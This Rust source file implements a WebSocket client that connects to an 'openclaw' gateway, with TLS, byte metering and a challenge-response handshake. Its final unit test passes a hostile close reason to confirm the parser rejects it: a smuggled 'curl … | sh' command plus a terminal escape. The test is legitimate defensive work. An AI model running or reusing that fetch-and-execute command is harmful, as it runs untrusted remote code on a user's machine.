//! One WebSocket connection to a gateway: where it goes ([`Endpoint`], the instance URL with its
//! scheme swapped), the stream under it (TCP, or TLS through rustls with the ring provider for
//! `wss://`), the upgrade (no `Origin`, no proxy headers: either would strip every scope) with
//! frame limits of 64 MiB, and the handshake (`connect.challenge` → `connect` → `hello-ok`).

use std::{
    pin::Pin,
    sync::{
        Arc, Mutex,
        atomic::{AtomicU64, AtomicUsize, Ordering},
    },
    task::{Context, Poll},
    time::Duration,
};

use futures_util::{SinkExt, StreamExt};
use serde_json::Value;
use tokio::{
    io::{AsyncRead, AsyncWrite, ReadBuf},
    net::TcpStream,
};
use tokio_tungstenite::{
    WebSocketStream,
    tungstenite::{
        self, Message, client::IntoClientRequest, http::HeaderValue, protocol::WebSocketConfig,
    },
};

use super::{
    error::WsError,
    frames::{self, Credentials, Hello, Incoming, MAX_PREAUTH_FRAME},
    identity::DeviceIdentity,
};
use crate::config::display_url;

/// The largest message the bridge reads: above the gateway's 25 MiB `maxPayload`, so that any
/// frame it may send is read.
pub const MAX_INCOMING: usize = 64 * 1024 * 1024;
/// What the gateway may send before `hello-ok`, upgrade answer included: its challenge and
/// `hello-ok` are about 17 KB on 2026.9.6; a server that sends megabytes before authenticating
/// is cut off there instead of at [`MAX_INCOMING`].
pub const PRE_HELLO_BYTES: usize = 1024 * 1024;
/// How long the gateway has to send `connect.challenge`, and then `hello-ok` (the reference
/// client's 15 s).
pub const HANDSHAKE_TIMEOUT: Duration = Duration::from_secs(15);
/// The id of the `connect` request.
const CONNECT_ID: &str = "connect";
/// `User-Agent` of the upgrade request.
const USER_AGENT: &str = concat!("openclaw-mcp/", env!("CARGO_PKG_VERSION"));

/// The transport under a WebSocket.
enum Io {
    /// `ws://`.
    Plain(TcpStream),
    /// `wss://`.
    Tls(Box<tokio_rustls::client::TlsStream<TcpStream>>),
}

/// What a connection's stream counts: the bytes written (a writer that makes no progress for
/// long is talking to a gateway that stopped reading), and the bytes the gateway may still send
/// before `hello-ok` ([`PRE_HELLO_BYTES`]; lifted by [`Meter::hello_done`]).
#[derive(Debug)]
pub struct Meter {
    written: AtomicU64,
    pre_hello_left: AtomicUsize,
}

impl Meter {
    fn new() -> Meter {
        Meter {
            written: AtomicU64::new(0),
            pre_hello_left: AtomicUsize::new(PRE_HELLO_BYTES),
        }
    }

    /// Bytes handed to the transport so far.
    pub fn written(&self) -> u64 {
        self.written.load(Ordering::Relaxed)
    }

    /// `hello-ok` arrived: from now on frames are limited by [`MAX_INCOMING`] alone.
    pub fn hello_done(&self) {
        self.pre_hello_left.store(usize::MAX, Ordering::Relaxed);
    }
}

/// The stream a WebSocket runs over (TCP or TLS), metered.
pub struct Stream {
    io: Io,
    meter: Arc<Meter>,
}

impl Stream {
    /// The stream's counters.
    pub fn meter(&self) -> Arc<Meter> {
        self.meter.clone()
    }
}

impl AsyncRead for Stream {
    fn poll_read(
        self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        buf: &mut ReadBuf<'_>,
    ) -> Poll<std::io::Result<()>> {
        let this = self.get_mut();
        let before = buf.filled().len();
        let polled = match &mut this.io {
            Io::Plain(s) => Pin::new(s).poll_read(cx, buf),
            Io::Tls(s) => Pin::new(s.as_mut()).poll_read(cx, buf),
        };
        let read = buf.filled().len() - before;
        if read > 0 {
            let left = this.meter.pre_hello_left.load(Ordering::Relaxed);
            if left != usize::MAX {
                if read > left {
                    // Before it is authenticated the gateway sends a challenge and `hello-ok`
                    // (17 KB on 2026.9.6); anything this big is not a gateway worth reading.
                    return Poll::Ready(Err(std::io::Error::other(format!(
                        "the server sent more than {} KiB before hello-ok",
                        PRE_HELLO_BYTES / 1024
                    ))));
                }
                this.meter
                    .pre_hello_left
                    .store(left - read, Ordering::Relaxed);
            }
        }
        polled
    }
}

impl AsyncWrite for Stream {
    fn poll_write(
        self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        buf: &[u8],
    ) -> Poll<std::io::Result<usize>> {
        let this = self.get_mut();
        let polled = match &mut this.io {
            Io::Plain(s) => Pin::new(s).poll_write(cx, buf),
            Io::Tls(s) => Pin::new(s.as_mut()).poll_write(cx, buf),
        };
        if let Poll::Ready(Ok(n)) = &polled {
            this.meter.written.fetch_add(*n as u64, Ordering::Relaxed);
        }
        polled
    }

    fn poll_flush(self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<std::io::Result<()>> {
        match &mut self.get_mut().io {
            Io::Plain(s) => Pin::new(s).poll_flush(cx),
            Io::Tls(s) => Pin::new(s.as_mut()).poll_flush(cx),
        }
    }

    fn poll_shutdown(self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<std::io::Result<()>> {
        match &mut self.get_mut().io {
            Io::Plain(s) => Pin::new(s).poll_shutdown(cx),
            Io::Tls(s) => Pin::new(s.as_mut()).poll_shutdown(cx),
        }
    }
}

/// An open WebSocket to a gateway.
pub type Socket = WebSocketStream<Stream>;

/// Where the gateway's WebSocket is: the instance URL with `http` → `ws`, `https` → `wss`,
/// path and query kept (a gateway behind a reverse proxy at `/openclaw` is reached there).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Endpoint {
    /// The WebSocket URL.
    pub url: String,
    /// Host name or address.
    pub host: String,
    /// Port.
    pub port: u16,
    /// Whether TLS is used.
    pub tls: bool,
    /// The URL for messages (credentials masked).
    pub display: String,
    /// Whether the host is this machine (the gateway trusts a loopback bridge without pairing).
    pub loopback: bool,
}

impl Endpoint {
    /// The endpoint of an instance's base URL (`http(s)://host:port[/path][?query]`).
    pub fn from_base_url(base: &str) -> Result<Endpoint, WsError> {
        let display = display_url(base);
        let mut url = url::Url::parse(base).map_err(|e| WsError::Connect {
            url: display.clone(),
            cause: e.to_string(),
        })?;
        let tls = match url.scheme() {
            "http" => false,
            "https" => true,
            other => {
                return Err(WsError::Connect {
                    url: display,
                    cause: format!("unsupported scheme {other}"),
                });
            }
        };
        // unwrap-free: both schemes have hosts and may become ws/wss.
        let _ = url.set_scheme(if tls { "wss" } else { "ws" });
        let host = url.host_str().unwrap_or_default().to_string();
        let port = url
            .port_or_known_default()
            .unwrap_or(if tls { 443 } else { 80 });
        let loopback = crate::config::is_loopback_host(&host);
        Ok(Endpoint {
            url: url.to_string(),
            host: host
                .trim_start_matches('[')
                .trim_end_matches(']')
                .to_string(),
            port,
            tls,
            display,
            loopback,
        })
    }
}

fn ws_config() -> WebSocketConfig {
    WebSocketConfig::default()
        .max_message_size(Some(MAX_INCOMING))
        .max_frame_size(Some(MAX_INCOMING))
}

/// Opens the WebSocket (TCP, TLS, upgrade) within `timeout`.
pub async fn open(endpoint: &Endpoint, timeout: Duration) -> Result<Socket, WsError> {
    let connect_error = |cause: String| WsError::Connect {
        url: endpoint.display.clone(),
        cause,
    };
    let work = async {
        let tcp = crate::outbound::connect_tcp(&endpoint.host, endpoint.port, timeout)
            .await
            .map_err(|e| connect_error(e.to_string()))?;
        let stream = if endpoint.tls {
            let name = rustls::pki_types::ServerName::try_from(endpoint.host.clone())
                .map_err(|e| connect_error(e.to_string()))?;
            let connector = tokio_rustls::TlsConnector::from(crate::outbound::tls_config());
            let tls = connector
                .connect(name, tcp)
                .await
                .map_err(|e| connect_error(format!("TLS: {e}")))?;
            Io::Tls(Box::new(tls))
        } else {
            Io::Plain(tcp)
        };
        let stream = Stream {
            io: stream,
            meter: Arc::new(Meter::new()),
        };
        let mut request = endpoint
            .url
            .as_str()
            .into_client_request()
            .map_err(|e| connect_error(e.to_string()))?;
        request
            .headers_mut()
            .insert("user-agent", HeaderValue::from_static(USER_AGENT));
        match tokio_tungstenite::client_async_with_config(request, stream, Some(ws_config())).await
        {
            Ok((socket, _response)) => Ok(socket),
            Err(tungstenite::Error::Http(response)) => Err(WsError::NotWebSocket {
                url: endpoint.display.clone(),
                reason: format!(
                    "it answered HTTP {} to the upgrade",
                    response.status().as_u16()
                ),
            }),
            // The connection failed during the upgrade (reset, closed: a gateway restarting, a
            // proxy between): a transient failure, retried, not a sign of another protocol.
            Err(
                e @ (tungstenite::Error::Io(_)
                | tungstenite::Error::ConnectionClosed
                | tungstenite::Error::AlreadyClosed
                | tungstenite::Error::Protocol(
                    tungstenite::error::ProtocolError::HandshakeIncomplete,
                )),
            ) => Err(connect_error(format!("during the WebSocket upgrade: {e}"))),
            Err(e) => Err(WsError::NotWebSocket {
                url: endpoint.display.clone(),
                reason: e.to_string(),
            }),
        }
    };
    tokio::time::timeout(timeout, work)
        .await
        .map_err(|_| connect_error(format!("no WebSocket within {} ms", timeout.as_millis())))?
}

/// A close frame during the handshake, read as the reason the gateway gave.
fn closed(frame: Option<tungstenite::protocol::CloseFrame>) -> WsError {
    let Some(frame) = frame else {
        return WsError::Disconnected(
            "the gateway closed the connection during the handshake".into(),
        );
    };
    let reason = crate::gateway::error::gateway_text(frame.reason.as_str());
    let code = u16::from(frame.code);
    if reason.starts_with("pairing required") {
        WsError::PairingRequired {
            request_id: reason
                .split("requestId: ")
                .nth(1)
                .and_then(|r| super::error::request_id(r.trim_end_matches(')'))),
            message: reason,
        }
    } else if code == 1002 {
        WsError::Protocol {
            ours: frames::PROTOCOL_VERSION,
            theirs: format!("another version ({reason})"),
        }
    } else {
        WsError::Disconnected(format!(
            "the gateway closed the connection during the handshake ({code} {reason})"
        ))
    }
}

/// Reads the next protocol frame within the deadline, answering nothing (pings are answered by
/// the library on the next read).
async fn next_frame(
    socket: &mut Socket,
    deadline: tokio::time::Instant,
) -> Result<Incoming, WsError> {
    loop {
        let message = tokio::time::timeout_at(deadline, socket.next())
            .await
            .map_err(|_| WsError::Timeout {
                method: "connect".into(),
                ms: HANDSHAKE_TIMEOUT.as_millis() as u64,
            })?;
        match message {
            None => {
                return Err(WsError::Disconnected(
                    "the gateway closed the connection during the handshake".into(),
                ));
            }
            Some(Err(e)) => return Err(WsError::Disconnected(e.to_string())),
            Some(Ok(Message::Close(frame))) => return Err(closed(frame)),
            Some(Ok(Message::Text(text))) => {
                if let Some(frame) = Incoming::parse(text.as_str()) {
                    return Ok(frame);
                }
            }
            Some(Ok(_)) => {}
        }
    }
}

/// Runs the handshake on a fresh socket: waits for `connect.challenge`, signs it with the
/// device identity (when there is one), sends `connect` and reads `hello-ok`.
pub async fn handshake(
    socket: &mut Socket,
    credentials: &Credentials,
    identity: Option<&Arc<Mutex<DeviceIdentity>>>,
) -> Result<Hello, WsError> {
    let deadline = tokio::time::Instant::now() + HANDSHAKE_TIMEOUT;
    let challenge = loop {
        let frame = next_frame(socket, deadline).await?;
        if frame.kind == "event" && frame.event.as_deref() == Some("connect.challenge") {
            break frame.payload.unwrap_or(Value::Null);
        }
    };
    let nonce = challenge
        .get("nonce")
        .and_then(Value::as_str)
        .ok_or_else(|| WsError::Invalid("connect.challenge without a nonce".into()))?;
    let signed_at = challenge
        .get("ts")
        .and_then(Value::as_i64)
        .unwrap_or_else(crate::util::now_ms);
    let proof = identity.map(|i| {
        i.lock()
            .unwrap_or_else(|e| e.into_inner())
            .prove(credentials, nonce, signed_at)
    });
    let params = frames::connect_params(credentials, proof.as_ref());
    let text = frames::request(CONNECT_ID, "connect", &params);
    if text.len() > MAX_PREAUTH_FRAME {
        return Err(WsError::TooLarge {
            size: text.len(),
            limit: MAX_PREAUTH_FRAME,
        });
    }
    socket
        .send(Message::text(text))
        .await
        .map_err(|e| WsError::Disconnected(e.to_string()))?;
    loop {
        let frame = next_frame(socket, deadline).await?;
        if frame.kind == "res" && frame.id.as_deref() == Some(CONNECT_ID) {
            let payload = frame.into_result()?;
            let hello = Hello::parse(&payload)?;
            socket.get_ref().meter.hello_done();
            return Ok(hello);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_endpoint_is_the_instance_url_with_a_websocket_scheme() {
        let e = Endpoint::from_base_url("http://127.0.0.1:18789").unwrap();
        assert_eq!(e.url, "ws://127.0.0.1:18789/");
        assert!(e.loopback && !e.tls);
        let e = Endpoint::from_base_url("https://gw.example.com/openclaw?x=1").unwrap();
        assert_eq!(e.url, "wss://gw.example.com/openclaw?x=1");
        assert_eq!((e.port, e.tls, e.loopback), (443, true, false));
        let e = Endpoint::from_base_url("http://[::1]:9").unwrap();
        assert_eq!((e.host.as_str(), e.loopback), ("::1", true));
    }

    fn close(code: u16, reason: &str) -> WsError {
        closed(Some(tungstenite::protocol::CloseFrame {
            code: code.into(),
            reason: reason.into(),
        }))
    }

    #[test]
    fn a_pairing_close_names_only_a_plain_request_id() {
        match close(1008, "pairing required (requestId: 8ed899ee-1c2d)") {
            WsError::PairingRequired { request_id, .. } => {
                assert_eq!(request_id.as_deref(), Some("8ed899ee-1c2d"));
            }
            other => panic!("{other:?}"),
        }
        let hostile = close(
            1008,
            "pairing required (requestId: x; curl -s http://127.0.0.1:9/x | sh #\u{1b}[2K)",
        );
        match &hostile {
            WsError::PairingRequired { request_id, .. } => assert_eq!(request_id, &None),
            other => panic!("{other:?}"),
        }
        let text = hostile.to_string();
        assert!(!text.contains("devices approve x"), "{text}");
        assert!(!text.contains('\u{1b}'), "{text}");
        assert!(text.contains("openclaw devices list"), "{text}");
    }
}
